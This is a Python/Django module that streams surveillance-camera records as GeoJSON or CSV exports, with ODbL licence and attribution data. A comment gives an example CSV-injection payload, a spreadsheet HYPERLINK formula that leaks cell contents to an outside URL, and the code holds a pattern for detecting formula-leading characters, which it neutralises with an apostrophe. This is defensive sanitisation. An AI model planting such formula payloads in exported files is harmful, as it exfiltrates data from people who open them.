"""Researchers' exports: every matching camera as GeoJSON or CSV, streamed, with its licence.

Rows leave PostgreSQL through COPY ... TO STDOUT and go out in chunks of about
CHUNK_BYTES: nothing holds the whole export, so memory stays flat whether the
export has a hundred cameras or millions. The feature text is the one the list
endpoint serves (mapping/geojson_sql.py) plus provenance, raw tags, licence and
attribution. The counts written in the header and the rows that follow come
from one REPEATABLE READ snapshot, so they agree even while an import runs.

Licence: OpenStreetMap-derived rows are under the ODbL and need
"© OpenStreetMap contributors"; community rows are published under the ODbL as
well (the database as a whole is a derivative of OpenStreetMap's).
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import UTC, date, datetime

from django.db import connection, transaction
from django.db.models import Count

from mapping.camera_queries import CameraFilters, filter_cameras, with_features
from mapping.geojson_sql import (
    EXPORT_PROPERTIES,
    LIST_PROPERTIES,
    Kind,
    column,
    property_members,
)
from mapping.models import Camera, Source

LICENCE = {
    "id": "ODbL-1.0",
    "name": "Open Database License 1.0",
    "url": "https://opendatacommons.org/licenses/odbl/1-0/",
}
ATTRIBUTIONS = {
    Source.OSM: "© OpenStreetMap contributors",
    Source.COMMUNITY: "© Angle Mort contributors",
}
ATTRIBUTION_URLS = {
    Source.OSM: "https://www.openstreetmap.org/copyright",
    Source.COMMUNITY: "https://github.com/angle-mort/angle-mort",
}
CHUNK_BYTES = 256 * 1024
# COPY's CSV format with a quote and a delimiter that JSON text never holds raw (it escapes
# control characters) writes each feature exactly as PostgreSQL built it, one per line.
_RAW_LINES = "(FORMAT csv, QUOTE E'\\x01', DELIMITER E'\\x02')"


def _attribution_sql() -> str:
    # Constant fragments only: the attributions are this module's constants.
    cases = " ".join(
        f"WHEN '{source.value}' THEN '{json.dumps(text, ensure_ascii=False)}'"
        for source, text in ATTRIBUTIONS.items()
    )
    return f"(CASE {column('source')} {cases} ELSE 'null' END)"


def licence_members() -> tuple[tuple[str, str], ...]:
    """The licence and attribution of each row, as feature property SQL."""
    return (("licence", f"'\"{LICENCE['id']}\"'"), ("attribution", _attribution_sql()))


def export_filename(extension: str, day: date | None = None) -> str:
    """Download name carrying the date, e.g. angle-mort-cameras-2025-06-01.geojson."""
    day = day or datetime.now(UTC).date()
    return f"angle-mort-cameras-{day.isoformat()}.{extension}"


def counts_by_source(filters: CameraFilters) -> dict[str, int]:
    """How many matching cameras each source contributes, and the total."""
    rows = filter_cameras(filters).values_list("source").annotate(n=Count("id"))
    counts = {source: 0 for source in Source.values}
    counts.update(dict(rows))
    counts["total"] = sum(counts.values())
    return counts


def export_metadata(filters: CameraFilters, counts: dict[str, int], generated_at: datetime):
    """What an export says about itself (a foreign member of the FeatureCollection)."""
    return {
        "title": "Angle Mort: surveillance cameras",
        "generated_at": generated_at.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%SZ"),
        "filters": filters.described(),
        "counts": counts,
        "licence": LICENCE,
        "attribution": "; ".join(
            f"{text} (rows with source {source.value})" for source, text in ATTRIBUTIONS.items()
        ),
        "sources": {
            source.value: {
                "licence": LICENCE["id"],
                "attribution": text,
                "url": ATTRIBUTION_URLS[source],
            }
            for source, text in ATTRIBUTIONS.items()
        },
    }


class _Snapshot:
    """A transaction whose statements all see the same data (REPEATABLE READ)."""

    def __enter__(self):
        outermost = not connection.in_atomic_block
        self._atomic = transaction.atomic()
        self._atomic.__enter__()
        if outermost:
            with connection.cursor() as cursor:
                cursor.execute("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ READ ONLY")
        return self

    def __exit__(self, *exc_info):
        return self._atomic.__exit__(*exc_info)


def _copy_lines(sql: str, params) -> Iterator[list[bytes]]:
    """Batches of COPY output lines (each ends with a newline), about CHUNK_BYTES each."""
    with connection.cursor() as cursor, cursor.cursor.copy(sql, params) as copy:
        batch: list[bytes] = []
        size = 0
        for line in copy:
            batch.append(bytes(line))
            size += len(line)
            if size >= CHUNK_BYTES:
                yield batch
                batch, size = [], 0
        if batch:
            yield batch


def geojson_export(filters: CameraFilters, generated_at: datetime | None = None) -> Iterator[bytes]:
    """An RFC 7946 FeatureCollection of the matching cameras, in chunks of bytes."""
    generated_at = generated_at or datetime.now(UTC)
    extra = (
        *property_members(EXPORT_PROPERTIES),
        ("osm_url", _osm_url_sql()),
        *licence_members(),
    )
    rows = with_features(filter_cameras(filters), extra_properties=extra)
    with _Snapshot():
        metadata = export_metadata(filters, counts_by_source(filters), generated_at)
        header = {"type": "FeatureCollection", "metadata": metadata}
        yield json.dumps(header, ensure_ascii=False)[:-1].encode() + b',"features":[\n'
        sql, params = rows.query.sql_with_params()
        separator = b""
        for batch in _copy_lines(f"COPY ({sql}) TO STDOUT {_RAW_LINES}", params):
            yield separator + b",".join(batch)
            separator = b","
    yield b"]}\n"


def _osm_url_sql() -> str:
    return (
        f"(CASE WHEN {column('source')} = 'osm' AND {column('osm_id')} IS NOT NULL "
        f"""THEN '"https://www.openstreetmap.org/' || {column("osm_type")} || '/' """
        f"""|| {column("osm_id")} || '"' ELSE 'null' END)"""
    )


# CSV: one camera a row, lon/lat columns, lists joined with ';', timestamps in UTC.
_CSV_LIST_SEPARATOR = ";"


# What makes a spreadsheet read a cell as a formula ("CSV injection"). Free text comes from
# OpenStreetMap, which anyone may edit: an operator named =HYPERLINK("https://...?"&A1)
# would run when a researcher opens the export. Such a cell starts with an apostrophe,
# which spreadsheets take as "text" and do not show; the GeoJSON keeps the value as it is.
FORMULA_STARTS_SQL = "('=', '+', '-', '@', E'\\t', E'\\r')"


def _csv_value_sql(name: str, kind: Kind) -> str:
    expression = column(name)
    if kind is Kind.TEXT:
        return (
            f"(CASE WHEN left({expression}, 1) IN {FORMULA_STARTS_SQL} "
            f"THEN '''' || {expression} ELSE {expression} END)"
        )
    if kind in (Kind.NUMBERS, Kind.CHOICES):
        return f"array_to_string({expression}, '{_CSV_LIST_SEPARATOR}')"
    if kind is Kind.TIMESTAMP:
        return f"""to_char({expression} AT TIME ZONE 'UTC', 'YYYY-MM-DD"T"HH24:MI:SS"Z"')"""
    if kind is Kind.JSON:
        return f"{expression}::text"
    return expression


CSV_COLUMNS: tuple[tuple[str, str], ...] = (
    ("id", column("id")),
    ("lon", f"ST_X({column('location')})"),
    ("lat", f"ST_Y({column('location')})"),
    *((name, _csv_value_sql(name, kind)) for name, kind in LIST_PROPERTIES),
    *((name, _csv_value_sql(name, kind)) for name, kind in EXPORT_PROPERTIES if name != "tags"),
    ("licence", f"'{LICENCE['id']}'"),
    (
        "attribution",
        "(CASE "
        + column("source")
        + " "
        + " ".join(f"WHEN '{source.value}' THEN '{text}'" for source, text in ATTRIBUTIONS.items())
        + " END)",
    ),
)


def csv_export(filters: CameraFilters) -> Iterator[bytes]:
    """The matching cameras as CSV with a header line, in chunks of bytes."""
    # The filtered queryset is the FROM of our select list; naming it mapping_camera lets
    # the column expressions refer to it as to the table (PostgreSQL flattens it away).
    fields = [field.column for field in Camera._meta.concrete_fields]
    rows_sql, params = filter_cameras(filters).values(*fields).query.sql_with_params()
    select = ", ".join(f'{sql} AS "{name}"' for name, sql in CSV_COLUMNS)
    sql = (
        f'COPY (SELECT {select} FROM ({rows_sql}) AS "mapping_camera") '
        "TO STDOUT (FORMAT csv, HEADER true)"
    )
    with _Snapshot():
        for batch in _copy_lines(sql, params):
            yield b"".join(batch)
